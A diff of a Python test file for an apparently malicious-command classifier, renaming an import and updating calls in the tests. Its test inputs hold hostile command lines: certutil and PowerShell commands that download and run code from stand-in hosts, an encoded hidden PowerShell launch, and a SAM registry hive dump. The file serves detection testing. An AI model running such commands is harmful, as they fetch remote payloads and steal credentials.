@@ -5,7 +5,7 @@ import hashlib
 import numpy as np
 import pytest
 
-from smallworld import label as L
+from smallworld.teacher import prompting
 from smallworld.errors import TeacherError
 from smallworld.tasks import load_task
 from smallworld.teacher import ResponseCache
@@ -61,18 +61,18 @@ def test_embedded_teacher_labels_and_prefix_reuse_changes_nothing(tmp_path):
     from smallworld.demo import EXAMPLES
 
     seed = D.read_rows(EXAMPLES / "cmdlines_seed.jsonl")
-    demos = L.Demonstrations(task, seed, k=2, mode="hybrid")
+    demos = prompting.Demonstrations(task, seed, k=2, mode="hybrid")
     items = ["certutil -urlcache -split -f http://198.51.100.9/p.exe C:\\Users\\Public\\p.exe",
              "git log --oneline -n 5", "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A",
              "ls -la /var/www"]
-    prompts = L.build_prompts(task, items, demos)
+    prompts = prompting.build_prompts(task, items, demos)
     t = EM.EmbeddedTeacher(cache=ResponseCache(tmp_path / "a.sqlite"))
-    P = L.ask(t, task, prompts)  # consecutive prompts share the instruction prefix in the KV cache
+    P = prompting.ask(t, task, prompts)  # consecutive prompts share the instruction prefix in the KV cache
     assert not np.isnan(P).any()
     assert P[0, 0] > P[1, 0] and P[2, 0] > P[3, 0]  # malicious above benign
     # the last prompt evaluated from scratch (fresh context) gives the same probabilities
     t2 = EM.EmbeddedTeacher(cache=ResponseCache(tmp_path / "b.sqlite"))
-    P2 = L.ask(t2, task, prompts[3:])
+    P2 = prompting.ask(t2, task, prompts[3:])
     assert np.allclose(P[3], P2[0], atol=2e-3)
     assert t.usage.calls == 4 and t.usage.prompt_tokens > 0
     t.close()
@@ -122,11 +122,11 @@ def test_embedded_prompt_ensemble_without_rubric(tmp_path):
         "powershell -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a')",
         "tar -czf backup.tar.gz ./docs", "reg save HKLM\\SAM C:\\Users\\Public\\sam.save", "npm install --save-dev jest"])]
     t = EM.EmbeddedTeacher(cache=ResponseCache(tmp_path / "a.sqlite"))
-    ens = L.Demonstrations(task, seed, k=2, mode="zero+fixed", rubric=False)
-    P, A = L.ask_rows(t, task, ens, rows, "ensemble", progress=False, with_agreement=True)
-    members = [L.ask_rows(t, task, m, rows, m.mode, progress=False) for m in ens.members]
+    ens = prompting.Demonstrations(task, seed, k=2, mode="zero+fixed", rubric=False)
+    P, A = prompting.ask_rows(t, task, ens, rows, "ensemble", progress=False, with_agreement=True)
+    members = [prompting.ask_rows(t, task, m, rows, m.mode, progress=False) for m in ens.members]
     assert t.usage.calls == 8 and t.usage.cache_hits == 8
     assert np.allclose(P, (members[0] + members[1]) / 2) and set(np.unique(A)) <= {0.5, 1.0}
     assert P[0, 0] > P[1, 0] and P[2, 0] > P[3, 0]
-    assert task.rubric.splitlines()[0] not in L.build_prompts(task, ["ls"], ens.members[0])[0]
+    assert task.rubric.splitlines()[0] not in prompting.build_prompts(task, ["ls"], ens.members[0])[0]
     t.close()
